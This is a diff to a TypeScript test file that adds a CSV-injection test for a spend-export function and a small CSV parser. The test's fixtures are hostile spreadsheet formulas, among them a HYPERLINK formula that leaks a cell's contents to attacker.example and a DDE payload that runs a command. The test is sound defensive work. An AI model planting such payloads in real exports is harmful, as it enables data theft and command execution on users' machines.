@@ -38,6 +38,20 @@ describe('spend: summaries, CSV and estimates', () => {
     assert.match(lines[5] ?? '', /,"my,model",chat,/);
   });
 
+  it('a text cell a spreadsheet would read as a formula starts with a quote and stays one cell (CSV injection)', () => {
+    const hostile = ['=HYPERLINK("https://attacker.example/?"&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    const csv = spendCsv(hostile.map((text) => ({ at: at(0), modelId: text, source: text, inputTokens: 1, outputTokens: 1, reasoningTokens: 0, costUsd: -0.5 })));
+    const rows = parseCsv(csv).slice(1);
+    assert.equal(rows.length, hostile.length);
+    rows.forEach((row, i) => {
+      assert.equal(row.length, 7, JSON.stringify(row));
+      assert.equal(row[1], `'${hostile[i]}`);
+      assert.equal(row[2], `'${hostile[i]}`);
+      assert.equal(row[6], '-0.5', 'numbers are ours and stay numbers');
+    });
+    assert.equal(parseCsv(spendCsv(ENTRIES))[1]?.[1], 'o3', 'ordinary text is left as it is');
+  });
+
   it('the o3-pro estimate is a range from the user\'s own cost per input token, and says "no data yet" without data', () => {
     const estimate = estimateCost(ENTRIES, 'o3-pro', 1000);
     assert.deepEqual(estimate, { lowUsd: 0.5, highUsd: 0.75, samples: 2 });
@@ -77,3 +91,19 @@ describe('spend ledger on disk', () => {
     assert.equal((await new SpendLedger(file).all()).length, 1);
   });
 });
+
+/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes ("") and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
+  }
+  return rows;
+}
